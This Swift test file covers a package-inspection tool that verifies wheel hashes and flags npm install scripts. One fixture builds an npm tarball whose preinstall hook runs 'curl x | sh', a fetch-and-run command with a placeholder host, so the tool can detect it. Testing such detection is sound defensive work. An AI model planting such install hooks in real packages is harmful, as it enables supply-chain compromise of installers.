import Foundation
import Testing
import BouncerTestSupport

/// `bouncer inspect` as a person runs it, on a real wheel fetched with pip
/// and on a crafted npm tarball with an install script.
@Suite struct InspectCommandTests {
    @Test func realWheelPassesAndChangedWheelFailsNamingTheFile() throws {
        let dir = try BouncerProcess.temporaryDirectory("bouncer-inspect-wheel")
        defer { try? FileManager.default.removeItem(at: dir) }
        let pip = try BouncerProcess.runProgram("/usr/bin/env", [
            "python3", "-m", "pip", "download", "--no-deps", "--only-binary=:all:", "--disable-pip-version-check",
            "-q", "six==1.16.0", "-d", dir.path])
        let wheels = (try? FileManager.default.contentsOfDirectory(atPath: dir.path))?.filter { $0.hasSuffix(".whl") } ?? []
        guard pip.status == 0, let name = wheels.first else {
            print("NOTICE: inspect wheel test skipped: pip download failed: \(pip.err.suffix(300))")
            return
        }
        let wheel = dir.appendingPathComponent(name).path
        let ok = try BouncerProcess.run(["inspect", wheel])
        #expect(ok.status == 0, "\(ok.out)\(ok.err)")
        #expect(ok.out.contains("six.dist-info/RECORD") || ok.out.contains(".dist-info/RECORD"))
        #expect(ok.out.contains("files verified: OK"))

        let changed = dir.appendingPathComponent("changed.whl").path
        try UnpackCommandTests.python(#"""
import sys, zipfile
with zipfile.ZipFile(sys.argv[1]) as zin, zipfile.ZipFile(sys.argv[2], "w", zipfile.ZIP_DEFLATED) as zout:
    for item in zin.infolist():
        data = zin.read(item)
        zout.writestr(item, data.replace(b"import sys", b"import sYs", 1) if item.filename == "six.py" else data)
"""#, [wheel, changed])
        let bad = try BouncerProcess.run(["inspect", changed, "--kind", "wheel"])
        #expect(bad.status == 1)
        #expect(bad.out.contains("PROBLEM: 'six.py' does not match its RECORD sha256 hash"), "\(bad.out)")

        let json = try BouncerProcess.run(["inspect", changed, "--kind", "wheel", "--json"])
        #expect(json.status == 1)
        let object = try JSONSerialization.jsonObject(with: json.stdout) as? [String: Any]
        #expect(object?["verdict"] as? String == "fail")
        let problems = object?["problems"] as? [[String: Any]]
        #expect(problems?.first?["entry"] as? String == "six.py")
    }

    @Test func npmTarballShowsInstallScripts() throws {
        let dir = try BouncerProcess.temporaryDirectory("bouncer-inspect-npm")
        defer { try? FileManager.default.removeItem(at: dir) }
        try UnpackCommandTests.python(#"""
import io, sys, tarfile
with tarfile.open(sys.argv[1] + "/pkg.tgz", "w:gz") as t:
    for path, data in [("package/package.json", b'{"name":"demo","version":"1.0.0","scripts":{"preinstall":"curl x | sh"}}'),
                       ("package/index.js", b"module.exports = 1\n")]:
        info = tarfile.TarInfo(path); info.size = len(data); t.addfile(info, io.BytesIO(data))
"""#, [dir.path])
        let pkg = dir.appendingPathComponent("pkg.tgz").path
        let result = try BouncerProcess.run(["inspect", pkg])
        #expect(result.status == 0, "\(result.err)")
        #expect(result.out.contains("npm package: demo@1.0.0"))
        #expect(result.out.contains("INSTALL SCRIPTS"))
        #expect(result.out.contains("preinstall: curl x | sh"))

        let wrong = try BouncerProcess.run(["inspect", pkg, "--expect-name", "other"])
        #expect(wrong.status == 1)
        #expect(wrong.out.contains("expected 'other'"))
        let usage = try BouncerProcess.run(["inspect", pkg, "--kind", "rpm"])
        #expect(usage.status == 2)
        let missing = try BouncerProcess.run(["inspect", dir.appendingPathComponent("nope.whl").path])
        #expect(missing.status == 3)
    }
}
